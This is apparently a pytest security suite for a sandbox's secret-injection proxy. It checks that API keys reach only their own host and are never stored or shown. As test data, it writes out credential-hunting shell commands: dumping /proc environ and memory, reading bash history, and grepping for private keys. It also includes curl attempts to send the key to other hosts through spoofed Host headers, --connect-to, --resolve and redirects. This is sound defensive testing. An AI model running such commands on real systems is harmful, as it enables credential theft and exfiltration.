"""S: to a secret's value. The oracle is what the servers outside were sent, and a search of everything that is kept."""
# ruff: noqa: E501 - programs that attack are data, and read better in one line

import base64
import json
import os
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

import pytest

from .cases import case
from .network import OTHER_VALUE, VALUE, Networked

FORMS: Final = (
    VALUE.encode(), base64.b64encode(VALUE.encode())[:-4], base64.urlsafe_b64encode(VALUE.encode())[:-4],
    VALUE.encode().hex().encode(), quote(VALUE, safe="").encode(), OTHER_VALUE.encode(),
)  # fmt: skip
"""A value as it may be written."""


def nowhere(text: str | bytes) -> None:
    """Assert that a value is not in there, in any form."""
    data = text.encode() if isinstance(text, str) else text
    assert not [form for form in FORMS if form in data]


LOOK: Final = """
env; cat /proc/*/environ /proc/*/cmdline 2> /dev/null | tr '\\0' '\\n'; cat /proc/*/maps 2> /dev/null | tail -1
grep -rs -m1 -F 'canary-of-the-secre' / --exclude-dir=proc --exclude-dir=usr --exclude-dir=sys -l
find /opt/egress -type f | xargs cat; history; cat ~/.bash_history
"""


@case(
    "S01",
    "look for the value in variables, processes, files, arguments, the memory of one's own interpreter",
    "the placeholder only",
)
def test_only_a_placeholder_is_inside(net: Networked) -> None:
    container = net.container()
    used = f'curl -sS -H "Authorization: Bearer $API_KEY" https://api.test:{net.world.tls}/; '
    said = net.shell(used + LOOK, container)
    assert net.world.seen[-1]["authorization"] == f"Bearer {VALUE}", "the control: it was used"
    assert "API_KEY=deskhand-secret-" in said.stdout
    nowhere(said.stdout + said.stderr)
    own = """
import os, re
found = 0
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    needle = b"canary-of-the-" + b"secret"
    for line in maps:
        span = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
        if span and "vsyscall" not in line and "vvar" not in line:
            start, end = (int(word, 16) for word in span.groups())
            try:
                memory.seek(start)
                found += memory.read(end - start).count(b"sk-live-Zq9/x" + b"+Y=" + needle)
            except OSError:
                pass
print("found", found)
"""
    assert "found 0" in net.python(own, container).stdout


@case("S02", "send the placeholder to its host in a header, as basic credentials, in the URL, in a body (plain, JSON, compressed)",
      "put in where it is documented; else refused or sent as it is, never as something else")  # fmt: skip
def test_a_placeholder_becomes_its_value_in_headers_alone(net: Networked) -> None:
    container = net.container()
    url = f"https://api.test:{net.world.tls}"
    since = len(net.world.seen)
    script = "; ".join((
        f'curl -sS -o /dev/null -w "%{{http_code}} " -H "X-Key: $API_KEY" {url}/header',
        f'curl -sS -o /dev/null -w "%{{http_code}} " -u "user:$API_KEY" {url}/basic',
        f'curl -sS -o /dev/null -w "%{{http_code}} " "{url}/query?key=$API_KEY"',
        f'curl -sS -o /dev/null -w "%{{http_code}} " -d "key=$API_KEY" {url}/form',
        f'curl -sS -o /dev/null -w "%{{http_code}} " -H "content-type: application/json" -d "{{\\"k\\": \\"$API_KEY\\"}}" {url}/json',
        f'printf %s "$API_KEY" | gzip | curl -sS -o /dev/null -w "%{{http_code}} " --data-binary @- -H "content-encoding: gzip" {url}/zip',
        f'curl -sS -o /dev/null -w "%{{http_code}} " -H "X: a$API_KEY-b" {url}/inside',
    ))  # fmt: skip
    statuses = net.shell(script, container).stdout.split()
    assert statuses[:3] == ["200", "200", "403"]
    seen = {entry[":path"]: entry for entry in net.world.seen[since:]}
    assert seen["/header"]["x-key"] == VALUE
    assert seen["/basic"]["authorization"] == "Basic " + base64.b64encode(f"user:{VALUE}".encode()).decode()
    assert "/query" not in json.dumps(list(seen))
    for path in ("/form", "/json", "/zip"):
        nowhere(seen.get(path, {}).get(":body", ""))
    assert VALUE in seen.get("/inside", {"x": VALUE})["x"]


@case("S03", "send the placeholder to another allowed host, to a subdomain, over plain HTTP, to an address, with a wrong SNI",
      "refused; the value never goes there")  # fmt: skip
def test_a_value_goes_to_its_own_host_alone(net: Networked) -> None:
    container = net.container(domains=["api.test", "other.test", "*.wild.test"])
    since = len(net.world.seen)
    tls, plain = net.world.tls, net.world.plain
    targets = (f"https://other.test:{tls}/1", f"http://api.test:{plain}/2", f"http://other.test:{plain}/3",
               f"https://a.wild.test:{tls}/4", f"https://sub.api.test:{tls}/5", f"https://127.0.0.1:{tls}/6",
               f"-H 'Host: api.test' https://other.test:{tls}/7",
               f"--connect-to api.test:{tls}:other.test:{tls} https://api.test:{tls}/8",
               f"--resolve api.test:{tls}:10.0.0.1 -x '' https://api.test:{tls}/9",
               f"-L https://other.test:{tls}/redirect?https://api.test:{tls}/10")  # fmt: skip
    said = net.shell(
        "; ".join(f'curl -sS -k -m 5 -H "Authorization: Bearer $API_KEY" {target}' for target in targets), container
    )
    nowhere(said.stdout + said.stderr)
    for entry in net.world.seen[since:]:
        if not entry["host"].startswith("api.test") or entry[":path"] == "/2":
            nowhere(json.dumps(entry))
    net.shell(f'curl -sS -H "Authorization: Bearer $API_KEY" https://api.test:{tls}/control', container)
    assert net.world.seen[-1]["authorization"] == f"Bearer {VALUE}"


@case(
    "S04",
    "TRACE; an answer, an error, a redirect, a cookie that reflect the value, in several encodings",
    "405; masked everywhere",
)
def test_a_reflected_value_is_masked(net: Networked) -> None:
    container = net.container()
    url = f"https://api.test:{net.world.tls}"
    key = '-H "Authorization: Bearer $API_KEY"'
    since = len(net.world.seen)
    said = net.shell(f"curl -sSi -X TRACE {key} {url}/trace; curl -sSi {key} {url}/echo; "
                     f"curl -sSi -u \"u:$API_KEY\" {url}/basic; curl -sSi {key} '{url}/redirect?{url}/x'", container)  # fmt: skip
    nowhere(said.stdout)
    assert " 405 " in said.stdout
    assert "/trace" not in net.visits(since)
    assert "deskhand-secret-" in said.stdout.lower()
    assert net.world.seen[-1]["authorization"] == f"Bearer {VALUE}", "the control: it was reflected"


@case(
    "S05",
    "an answer that reflects the value one byte to a chunk, compressed, or breaks off in the middle",
    "masked, or cut off",
)
def test_a_value_is_masked_however_it_is_split(net: Networked) -> None:
    container = net.container()
    url = f"https://api.test:{net.world.tls}"
    for path in ("chunks", "gzip", "broken"):
        for options in ("", "--compressed", "-H 'Accept-Encoding: gzip, br, zstd'", "-r 0-200", "--http1.0"):
            said = net.shell(
                f'curl -sS {options} -H "Authorization: Bearer $API_KEY" {url}/{path} | base64 -w0', container
            )
            nowhere(base64.b64decode(said.stdout.strip() or b""))
    assert net.world.seen[-1]["authorization"] == f"Bearer {VALUE}"


@case(
    "S06",
    "find the value in answers, events, stored items, logs, the database, snapshots, exports, errors",
    "it is in none of them",
)
def test_the_value_is_kept_nowhere(net: Networked) -> None:
    policy = {"type": "allowlist", "allowed_domains": ["api.test"],
              "domain_secrets": [{"domain": "api.test", "name": "API_KEY", "value": VALUE}]}  # fmt: skip
    environment: dict[str, Any] = {"type": "container_auto", "network_policy": policy}
    use = f'curl -sS -H "X: $API_KEY" https://api.test:{net.world.tls}/; echo "$API_KEY"; cat /nonexistent/$API_KEY'
    body = {
        "model": "m",
        "input": f"@@ shell {use}",
        "tools": [{"type": "shell", "environment": environment}],
        "stream": True,
    }
    with net.product.http() as client:
        with client.stream("POST", "/v1/responses", json=body) as answer:
            events = b"".join(answer.iter_bytes())
        nowhere(events)
        last = json.loads(events.decode().rstrip().rsplit("data: ", 1)[1])["response"]
        container = last["tools"][0]["environment"]["container_id"]
        kept = client.post(f"/v1/containers/{container}/snapshots", json={})
        for path in (f"/v1/responses/{last['id']}", f"/v1/responses/{last['id']}/input_items", "/v1/containers",
                     f"/v1/containers/{container}", f"/v1/containers/{container}/egress",
                     f"/v1/containers/{container}/egress?format=jsonl", f"/v1/containers/{container}/files", "/health"):  # fmt: skip
            nowhere(client.get(path).text)
        nowhere(kept.text)
        broken = json.loads(json.dumps(policy))
        broken["domain_secrets"][0]["domain"] = "evil.test"
        refused = client.post("/v1/containers", json={"name": "x", "network_policy": broken})
        assert refused.status_code == 400
        nowhere(refused.text)
    assert net.world.seen[-1]["x"] == VALUE
    data = net.product.server.data_dir
    searched = 0
    for file in [net.product.server.log, *data.rglob("*")]:
        if file.is_file() and not file.is_symlink() and file.suffix != ".img":
            nowhere(file.read_bytes())
            searched += 1
    for image in data.rglob("*.img"):
        for piece in written(image):
            nowhere(piece)
        searched += 1
    assert searched > 3
    with sqlite3.connect(data / "deskhand.sqlite") as rows:
        (sealed,) = rows.execute("SELECT sealed FROM container_secrets WHERE container_id = ?", (container,)).fetchone()
    rows.close()
    assert len(sealed) > len(VALUE), "the control: it is kept, sealed"
    key = data / "secret_key"
    assert not key.exists() or key.stat().st_mode & 0o077 == 0


def written(image: Path) -> Iterator[bytes]:
    """What of a sparse image was ever written."""
    with image.open("rb", 0) as file:
        size, at = os.fstat(file.fileno()).st_size, 0
        while at < size:
            try:
                start = os.lseek(file.fileno(), at, os.SEEK_DATA)
            except OSError:
                return
            at = os.lseek(file.fileno(), start, os.SEEK_HOLE)
            yield os.pread(file.fileno(), at - start, start)


@case("S13", "read the database and the stored files as another user of the host, in a data directory that was there before",
      "nobody but the server's user can")  # fmt: skip
def test_what_is_kept_is_the_servers_alone(net: Networked) -> None:
    data = net.product.server.data_dir
    if data.stat().st_mode & 0o077:
        kept = [path for path in (data / "deskhand.sqlite", data / "secret_key", data / "sandboxes") if path.exists()]
        assert not [path for path in kept if path.stat().st_mode & 0o077]


@case(
    "S07",
    "values with line breaks, NUL, control characters, megabytes; names that are variables of the system",
    "400 that does not repeat them",
)
@pytest.mark.parametrize("value", ["a\r\nX: 1", "a\nb", "a\0b", "a\x7fb", "sesame" * 100_000, "\ud800", " a", ""])
def test_a_value_that_is_no_header_is_refused(net: Networked, value: str) -> None:
    policy = {"type": "allowlist", "allowed_domains": ["api.test"],
              "domain_secrets": [{"domain": "api.test", "name": "API_KEY", "value": value}]}  # fmt: skip
    with net.product.http() as client:
        body = json.dumps({"name": "x", "network_policy": policy})
        answer = client.post("/v1/containers", content=body, headers={"content-type": "application/json"})
        assert answer.status_code == 400, answer.text[:300]
        assert "sesame" not in answer.text
        for name in (
            "PATH",
            "LD_PRELOAD",
            "HTTPS_PROXY",
            "https_proxy",
            "SSL_CERT_FILE",
            "PYTHONPATH",
            "BASH_ENV",
            "A=B",
            "A\nB",
        ):
            policy["domain_secrets"] = [{"domain": "api.test", "name": name, "value": "v"}]
            assert client.post("/v1/containers", json={"name": "x", "network_policy": policy}).status_code == 400, name


@case("S08", "two secrets of one host, one value inside the other, one name the beginning of the other, a guessed placeholder",
      "each is exactly its own; a guess is text")  # fmt: skip
def test_secrets_are_told_apart(net: Networked) -> None:
    secrets = [{"domain": "api.test", "name": "KEY", "value": OTHER_VALUE}, {"domain": "api.test", "name": "KEY_2", "value": VALUE},
               {"domain": "other.test", "name": "KEY_3", "value": "third-value-of-other"}]  # fmt: skip
    container = net.container(domain_secrets=secrets)
    other = net.container(domain_secrets=secrets)
    url = f"https://api.test:{net.world.tls}"
    said = net.shell(
        f'curl -sS -H "A: $KEY" -H "B: $KEY_2" -H "C: $KEY,$KEY_2" {url}/; echo; echo "$KEY $KEY_2 $KEY_3"', container
    )
    seen = net.world.seen[-1]
    assert (seen["a"], seen["b"], seen["c"]) == (OTHER_VALUE, VALUE, f"{OTHER_VALUE},{VALUE}")
    nowhere(said.stdout)
    placeholders = said.stdout.split()[-3:]
    assert len(set(placeholders)) == 3
    theirs = net.shell('echo "$KEY"', other).stdout.strip()
    assert theirs not in placeholders
    since = len(net.world.seen)
    guess = "deskhand-secret-" + "0" * 32
    said = net.shell(f'curl -sS -H "A: {theirs}" {url}/theirs; curl -sS -H "A: {guess}" {url}/guess; '
                     f'curl -sS -H "A: $KEY_3" {url}/wrong', container)  # fmt: skip
    for entry in net.world.seen[since:]:
        nowhere(json.dumps(entry))
        assert "third-value" not in json.dumps(entry)


@case("S09", "look for a secret in a snapshot, a fork, a container made from either", "no value, and no way to use it")
def test_a_copy_has_no_secret(net: Networked) -> None:
    container = net.container()
    net.shell('echo "$API_KEY" > placeholder', container)
    with net.product.http() as client:
        made = client.post(f"/v1/containers/{container}/fork", json={})
        assert made.status_code == 200, made.text
    since = len(net.world.seen)
    use = f'curl -sS -H "X: $(cat placeholder)" https://api.test:{net.world.tls}/copied; env | grep -c API_KEY'
    said = net.shell(use, made.json()["id"])
    assert said.stdout.endswith("0\n")
    nowhere(json.dumps(net.world.seen[since:]))
    net.shell(f'curl -sS -H "X: $API_KEY" https://api.test:{net.world.tls}/own', container)
    assert net.world.seen[-1]["x"] == VALUE


@case(
    "S10", "go on with a secret whose value was exchanged", "the next request has the new one; the old one stays masked"
)
def test_an_exchanged_value_is_used_at_once(net: Networked) -> None:
    container = net.container()
    use = f'curl -sS -H "X: $API_KEY" https://api.test:{net.world.tls}/'
    net.shell(use, container)
    with net.product.http() as client:
        answer = client.post(
            f"/v1/containers/{container}/secrets", json={"name": "API_KEY", "value": "fresh-value-of-the-key"}
        )
        assert answer.status_code == 200
        with net.product.http("b") as other:
            attempt = {"name": "API_KEY", "value": "stolen"}
            assert other.post(f"/v1/containers/{container}/secrets", json=attempt).status_code == 404
    said = net.shell(use, container)
    assert net.world.seen[-1]["x"] == "fresh-value-of-the-key"
    nowhere(said.stdout)
    assert "fresh-value" not in said.stdout


@case("S15", "have more and longer values than a container may, by exchanging short ones for long ones",
      "400; the values are what they were")  # fmt: skip
def test_values_do_not_grow_beyond_their_bound(net: Networked) -> None:
    secrets = [{"domain": "api.test", "name": f"KEY_{n}", "value": f"short-value-{n}"} for n in range(8)]
    container = net.container(domain_secrets=secrets)
    long = "'\"+/" * 2000
    with net.product.http() as client:
        answers = [
            client.post(f"/v1/containers/{container}/secrets", json={"name": f"KEY_{n}", "value": long})
            for n in range(8)
        ]
    assert [answer.status_code for answer in answers] == [200] * 4 + [400] * 4
    nowhere("".join(answer.text for answer in answers))
    net.shell(f'curl -sS -H "A: $KEY_0" -H "B: $KEY_7" https://api.test:{net.world.tls}/', container)
    assert (net.world.seen[-1]["a"], net.world.seen[-1]["b"]) == (long, "short-value-7")


@case(
    "S11",
    "find the private key of the installation's authority in a container; have it trusted outside",
    "its certificate only",
)
def test_the_authoritys_key_is_the_servers(net: Networked) -> None:
    container = net.container()
    said = net.shell(
        "cat /opt/egress/* 2> /dev/null | grep -c 'PRIVATE KEY'; grep -rl 'PRIVATE KEY' /opt /mnt /run /home /tmp",
        container,
    )
    assert said.stdout == "0\n"
    keys = [path for path in net.product.server.data_dir.rglob("*.pem") if b"PRIVATE" in path.read_bytes()]
    assert keys, "the control: there is one"
    assert all(path.stat().st_mode & 0o077 == 0 for path in keys)


@case("S12", "read a secret back: from the container, the lists, the endpoint that sets it", "write-only")
def test_a_secret_cannot_be_read_back(net: Networked) -> None:
    container = net.container()
    with net.product.http() as client:
        for path in (f"/v1/containers/{container}", "/v1/containers?limit=100", f"/v1/containers/{container}/egress"):
            nowhere(client.get(path).text)
        for method in ("GET", "HEAD", "OPTIONS"):
            assert client.request(method, f"/v1/containers/{container}/secrets").status_code in (404, 405)
        told = client.post(f"/v1/containers/{container}/secrets", json={"name": "API_KEY", "value": VALUE})
        assert told.status_code == 200
        nowhere(told.text)
    assert os.path.exists(net.product.server.data_dir / "deskhand.sqlite")
